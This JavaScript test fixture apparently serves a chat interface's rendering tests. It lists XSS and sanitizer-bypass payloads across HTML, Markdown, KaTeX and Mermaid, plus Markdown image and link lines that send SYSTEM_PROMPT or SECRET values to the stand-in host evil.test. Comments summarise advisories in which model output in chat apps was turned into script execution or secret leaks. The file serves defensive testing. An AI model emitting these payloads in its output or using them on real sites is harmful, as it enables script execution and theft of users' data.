// Texts by which a model, a page or a document could try to run a script in Studio, or make it send a request.
// Each names the script's effect `globalThis.pwned`, or the host evil.test.

const SCRIPTS = [
  '<script>pwned=1</script>', '<img src=x onerror=pwned=1>', '<img src="https://evil.test/a.png">', '<svg onload=pwned=1>',
  '<svg><script>pwned=1</script></svg>', '<svg><animate onbegin=pwned=1 attributeName=x dur=1s>', '<body onload=pwned=1>',
  '<iframe src="javascript:pwned=1"></iframe>', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="https://evil.test/"></iframe>', '<object data="https://evil.test/x"></object>', '<embed src="https://evil.test/x">',
  '<link rel=stylesheet href="https://evil.test/x.css">', '<style>@import url(https://evil.test/x.css);</style>',
  '<style>body{background:url(https://evil.test/x)}</style>', '<div style="background:url(https://evil.test/x)">x</div>',
  '<base href="https://evil.test/">', '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<form action="https://evil.test/"><button autofocus onfocus=pwned=1>x</button></form>', '<input autofocus onfocus=pwned=1>',
  '<details open ontoggle=pwned=1>x</details>', '<video src=x onerror=pwned=1></video>', '<audio src="https://evil.test/a.mp3" autoplay></audio>',
  '<video poster="https://evil.test/p.png"></video>', '<picture><source srcset="https://evil.test/a.png"><img src=x></picture>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned=1>">', '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
  '<template><img src=x onerror=pwned=1></template>', '<x contenteditable onblur=pwned=1 tabindex=1 autofocus>', '<marquee onstart=pwned=1>x</marquee>',
  '<a href="javascript:pwned=1" autofocus>x</a>', '<svg><a xlink:href="javascript:pwned=1"><text x=1 y=9>x</text></a></svg>',
  '<svg><use href="https://evil.test/x.svg#a"></use></svg>', '<svg><image href="https://evil.test/x.png"/></svg>',
  '<svg><foreignObject><iframe src="https://evil.test/"></iframe></foreignObject></svg>', '<isindex type=image src=1 onerror=pwned=1>',
  '<img src="x` `<script>pwned=1</script>"` `>', '<<script>pwned=1//<</script>', '<scr<script>ipt>pwned=1</scr</script>ipt>',
  '<ScRiPt>pwned=1</sCrIpT>', '<img/src/onerror=pwned=1>', '<img src=x:x onerror\n=pwned=1>', '<!--><img src=x onerror=pwned=1>-->',
  '<![CDATA[<img src=x onerror=pwned=1>]]>', '<?xml version="1.0"?><script>pwned=1</script>', '<portal src="https://evil.test/"></portal>',
  '<button popovertarget=x onbeforetoggle=pwned=1>x</button><div popover id=x onbeforetoggle=pwned=1>y</div>',
  '<textarea autofocus onfocus=pwned=1></textarea>', '<select autofocus onfocus=pwned=1></select>', '<keygen autofocus onfocus=pwned=1>',
];

const ADDRESSES = [
  'javascript:pwned=1', 'JaVaScRiPt:pwned=1', 'java\tscript:pwned=1', ' javascript:pwned=1', '&#106;avascript:pwned=1',
  '&#x6A;avascript&colon;pwned=1', 'javascript&#58;pwned=1', 'vbscript:pwned=1', 'data:text/html,<script>pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+', 'data:image/svg+xml,<svg onload=pwned=1>', 'file:///etc/passwd', 'blob:pwned',
  'https://evil.test/?q=secret', '//evil.test/x', '\\\\evil.test\\x', 'https:evil.test', 'http://evil.test:80/', 'ftp://evil.test/', 'ws://evil.test/',
  'https://user:pass@evil.test/', 'https://evil.test/" onerror="pwned=1', "https://evil.test/' onerror='pwned=1", 'https://evil.test/)x',
];

const MARKDOWN = [
  ...ADDRESSES.map((a) => `[click](<${a}>)`), ...ADDRESSES.map((a) => `![image](${a})`), ...ADDRESSES.map((a) => `<${a}>`),
  ...ADDRESSES.slice(0, 14).map((a) => `[ref][1]\n\n[1]: ${a} "title"`),
  '[a](https://evil.test "x\\" onmouseover=\\"pwned=1")', '![a" onerror="pwned=1](https://evil.test/x)', '![`onerror=pwned=1`](x"onerror="pwned=1)',
  '[![x](https://evil.test/x.png)](javascript:pwned=1)', '`<img src=x onerror=pwned=1>`', '    <script>pwned=1</script>',
  '| <img src=x onerror=pwned=1> | ![x](https://evil.test/t.png) |\n|---|---|\n| <svg onload=pwned=1> | [x](javascript:pwned=1) |',
  '> ![x](https://evil.test/q.png)\n> <script>pwned=1</script>', '- ![x](https://evil.test/l.png)', '# ![x](https://evil.test/h.png) <img src=x onerror=pwned=1>',
  '![exfiltrate](https://evil.test/?data=SYSTEM_PROMPT)', '[^1]\n\n[^1]: <img src=x onerror=pwned=1>', 'https://evil.test/auto', 'www.evil.test', 'x@evil.test',
];

const CODE = [
  '```html\n<script>pwned=1</script>\n```', '```"><img src=x onerror=pwned=1>\ncode\n```', '```js" onclick="pwned=1\nx\n```',
  "```svg\n<svg onload=pwned=1>\n```", '```xml\n<!ENTITY x SYSTEM "https://evil.test/x">\n```', '~~~html onload=pwned=1\n<img src=x onerror=pwned=1>\n~~~',
  '```constructor\nx\n```', '```__proto__\nx\n```', '```\n</code></pre><script>pwned=1</script>\n```',
];

const FORMULAS = [
  '\\href{javascript:pwned=1}{x}', '\\url{javascript:pwned=1}', '\\includegraphics{https://evil.test/x.png}', '\\htmlClass{x" onclick="pwned=1}{y}',
  '\\htmlId{x}{y}', '\\htmlStyle{background:url(https://evil.test/)}{y}', '\\htmlData{a=b}{y}', '\\text{<img src=x onerror=pwned=1>}',
  '\\unicode{x}', '\\def\\a{\\a\\a}\\a', '\\color{red;background:url(https://evil.test/)}x', '\\textcolor{"onclick=pwned=1}{x}', '<script>pwned=1</script>',
  '\\\\[1000000em]x', '\\rule{100000em}{100000em}', '\\href{https://evil.test}{x}', '\\require{html}\\style{color:red}{x}', '\\begin{array}{cc<script>}x',
].flatMap((f) => [`$${f}$`, `$$${f}$$`]);

export const DIAGRAMS = [
  'graph LR\n  A["<img src=x onerror=pwned=1>"] --> B', 'graph LR\n  A --> B\n  click A "javascript:pwned=1"',
  '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph LR\n  A["<script>pwned=1</script>"]',
  '%%{init: {"themeCSS": "@import url(https://evil.test/x.css)"}}%%\ngraph LR\n  A-->B',
  'graph LR\n  A@{ img: "https://evil.test/x.png", label: "x" }',
  'sequenceDiagram\n  A->>B: <svg onload=pwned=1>', 'not a diagram <script>pwned=1</script>',
];

/// Mermaid and pages that use it: further diagrams of advisories.
export const MORE_DIAGRAMS = [
  // Formulas in the labels of a sequence (CVE-2025-54881), an icon's text (CVE-2025-54880), rules of CSS from
  // the text (CVE-2022-31108), labels of HTML (CVE-2021-43861). Cursor: an image's address carried secrets (CVE-2025-54132).
  'sequenceDiagram\n  participant A as $$x$$<img src=x onerror="pwned=1">\n  A->>A: $$\\text{y}$$<iframe srcdoc="<script>parent.pwned=1</script>">',
  'architecture-beta\n  service a "<img src=x onerror=pwned=1>"(server)[a]',
  '%%{init: {"themeVariables": {"lineColor": "red; } * { background: url(https://evil.test/css) } .x {"}}}%%\ngraph LR\n  A-->B',
  '%%{init: {"flowchart": {"htmlLabels": true}}}%%\ngraph LR\n  A["<iframe src=javascript:parent.pwned=1></iframe>"] --> B["<img src=https://evil.test/?q=SECRET>"]',
];

/// What advisories of other chat pages and of the libraries that they share are about, each attack in words of our own.
/// A comment names the entry that has it.
const ADVISORIES = [
  // Open WebUI: HTML elements of a message's Markdown became elements, frames of its own files among them (CVE-2025-46719).
  '<iframe src="/api/v1/files/1/content/html" onload="pwned=1"></iframe>',
  '<iframe src="/v1/models" width=1 height=1 onload=pwned=1></iframe>',
  '<source_id data="1" />text<file type="html" id="x\" onerror=\"pwned=1">', '<audio src="x" onerror="pwned=1"></audio> <video><source onerror=pwned=1></video>',
  // Open WebUI: a prompt was inserted as rich text (CVE-2025-64495), and so was a note with SVG (CVE-2025-65959).
  '<p>rich</p><img src=1 onerror="globalThis.pwned=1"><p contenteditable onfocus=pwned=1 autofocus>x</p>',
  '# Note\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="pwned=1"><text>x</text></svg>',
  // Open WebUI: a file of HTML was served from the page's own origin (CVE-2025-46571, CVE-2024-7044).
  '[report](/v1/conversations/x/report.html) ![report](/v1/conversations/x/report.svg)',
  // Open WebUI: the text was sanitised before Markdown made HTML of it, not afterwards (CVE-2026-44568).
  '[x](javascript&colon;pwned=1) ![x](x){onerror=pwned=1} <a title="[y](javascript:pwned=1)">', '**<img src=`x` onerror=`pwned=1`>** ~~<svg/onload=pwned=1>~~',
  // Open WebUI: an event of the stream was run as a script (CVE-2025-64496).
  'data: {"event": {"type": "execute", "data": {"code": "globalThis.pwned=1"}}}\n\n',
  // LobeChat: SVG inside of an artifact's tags was inserted as HTML (CVE-2025-59417).
  '<lobeArtifact identifier="x" type="image/svg+xml" title="x"><svg><foreignObject><img src=x onerror=pwned=1></foreignObject></svg></lobeArtifact>',
  '<lobeThinking><img src=x onerror=pwned=1></lobeThinking>', '<antArtifact type="text/html"><script>pwned=1</script></antArtifact>',
  ':::artifact{identifier="x" type="text/html" title="x"}\n```html\n<script>parent.pwned=1</script>\n```\n:::',
  // LibreChat and AnythingLLM: attributes of an image (its alternative text, an icon's address) were not escaped.
  '![x" onload="pwned=1" y="](data:image/png;base64,iVBORw0KGgo=)', "![' onerror='pwned=1](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkPTEiLz4=)', '![x](data:image/png,x"onerror="pwned=1)',
  // NextChat: an address of type data: was given back as a page (CVE-2023-49785).
  '[x](/api/cors/data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)',
  // DeepChat: addresses of other programs were opened (CVE-2025-55733, CVE-2026-43899).
  '[x](deepchat://mcp/install?code=e30=) [x](ms-msdt:/id) [x](smb://evil.test/share) [x](search-ms:query=x)', '<smb://evil.test/x> <ms-msdt:/id>',
  // Microsoft 365 Copilot: images and links by reference carried secrets in their address (CVE-2025-32711).
  '![secret][leak]\n\n[leak]: https://evil.test/?q=SECRET', '[secret]\n\n[secret]: <https://evil.test/?q=SECRET>',
  // Discourse: what a model wrote of a text was marked as safe HTML (CVE-2026-27740).
  '"reason": "spam<img src=x onerror=pwned=1>"',
  // KaTeX: names of attributes (CVE-2025-23207), addresses with capitals (CVE-2024-28246), quotes in an image
  // (CVE-2024-28245), expansions without an end (CVE-2024-28243, CVE-2024-28244).
  '$\\htmlData{><img/src onerror="pwned=1" x=1}{x}$', '$\\href{JavaScript:pwned=1}{x}$', '$\\includegraphics[alt={\" onerror=\"pwned=1}]{https://evil.test/x}$',
  '$\\edef\\a{x}\\edef\\a{\\a\\a\\a\\a}\\edef\\a{\\a\\a\\a\\a}\\edef\\a{\\a\\a\\a\\a}\\edef\\a{\\a\\a\\a\\a}\\a$', '$\\def\\a{x\u2070\\a}\\a$',
  // DOMPurify: deep nesting and another parser's view of it (CVE-2024-45801, CVE-2024-47875), templates (CVE-2025-26791).
  `${'<div>'.repeat(300)}<svg><style><img src=x onerror=pwned=1></style></svg>`, '<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned=1></style>',
  '${pwned=1} {{constructor.constructor("pwned=1")()}} <%= pwned=1 %>',
  // highlight.js: a language named like a member of every object (CVE-2020-26237). markdown-it: long runs (CVE-2022-21670).
  '```toString\nx\n```', '```hasOwnProperty\nx\n```', `x${' '.repeat(5000)}x`, '*'.repeat(3000),
];

const KINDS = [SCRIPTS, MARKDOWN, CODE, FORMULAS, ADVISORIES];
export const TEXTS = KINDS.flat();

/// The texts of a run: all, or of each kind its first and a drawn part.
export const textsOf = (draw) => KINDS.flatMap(([first, ...more]) => [first, ...draw.some(more, Math.ceil(more.length / 4))]);
